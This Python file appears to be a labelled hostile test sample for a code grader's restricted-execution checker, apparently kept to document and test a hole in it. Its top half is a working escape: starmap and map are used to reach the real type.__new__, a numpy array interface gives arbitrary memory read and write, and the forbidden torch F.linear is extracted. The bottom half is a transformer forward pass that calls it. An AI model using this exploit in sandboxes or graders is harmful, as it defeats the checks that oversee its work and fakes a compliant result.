"""Hostile (verdict today: accepted; deserved: forbidden_api). The documented C-only residual is a
short, practical escape, because the "every such class the file's own code then meets is checked"
claim does not hold for a callback's parameter: itertools.starmap calls the real type.__new__
(read as super(type, type).__new__) and map hands the unchecked class W to a function of the file
(`windows`), whose closure keeps it; starmap(W, [()]) and map(numpy.asarray, ...) make the
instance and read its __array_interface__ in C, so the only value the file's code is checked on is
the ndarray. That array reads and writes any address: a list slot is set to the address of
torch.nn.functional's globals, reached in C through dict.get, and F.linear does the projections.
Root cause: grader/child/restricted.py Capabilities.items/result check loop items and call
results, never the parameters a library's C code passes to a function of the file (map, starmap).
"""
import itertools
import math

import numpy
import torch

iface = {"data": (0, False), "shape": (1,), "typestr": "<u8", "version": 3}
new_class = super(type, type).__new__  # the real type.__new__


def windows(window_class):
    def at(address):
        iface["data"] = (address, False)
        return list(map(numpy.asarray, itertools.starmap(window_class, [()])))[0]

    return at


at = list(map(windows, itertools.starmap(new_class, [(type, "W", (object,), {"__array_interface__": iface})])))[0]
kept = []


def boxed(address):
    at(address)[0] += 1
    box = [None]
    at(int(at(id(box) + 24)[0]))[0] = address
    kept.append(box)
    return box


def objects(address):
    return itertools.chain.from_iterable(map(boxed, [address]))


functional_globals = int(at(id(torch.broadcast_shapes) + 16)[0])
F_id = list(map(id, map(dict.get, objects(functional_globals), ["F"])))[0]
linear = list(map(dict.get, objects(int(at(F_id + 16)[0])), ["linear"]))[0]


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    e = torch.exp(scores - scores.amax(dim=-1, keepdim=True))
    return e / e.sum(dim=-1, keepdim=True)


def proj(h, w):
    return linear(h, w.t())


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    n, t, d = x.shape
    dh = d // num_heads
    for w_q, w_k, w_v, w_o, w_1, w_2 in blocks_weights:
        h = layer_norm(x)
        q, k, v = (proj(h, w).view(n, t, num_heads, dh).transpose(1, 2) for w in (w_q, w_k, w_v))
        heads = softmax(q @ k.transpose(-2, -1) / math.sqrt(dh)) @ v
        x = x + proj(heads.transpose(1, 2).reshape(n, t, d), w_o)
        x = x + gelu(layer_norm(x) @ w_1) @ w_2
    return x[mask_indicator > 0.5] @ w_emb.T
